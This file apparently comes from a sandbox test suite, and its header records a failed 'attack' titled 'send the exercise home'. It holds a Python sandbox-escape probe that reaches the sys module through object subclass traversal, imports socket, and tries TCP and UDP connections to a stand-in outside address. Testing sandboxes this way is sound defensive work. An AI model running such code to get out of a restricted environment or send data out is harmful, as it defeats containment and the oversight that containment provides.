# /// attack
# rows = [40]
# title = "send the exercise home"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

socket = sys.modules["importlib"].import_module("socket")
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        s = socket.socket(socket.AF_INET, kind)
        s.settimeout(2)
        s.connect(("192.0.2.1", 53))
        print("connected")
    except OSError as error:
        print(type(error).__name__)
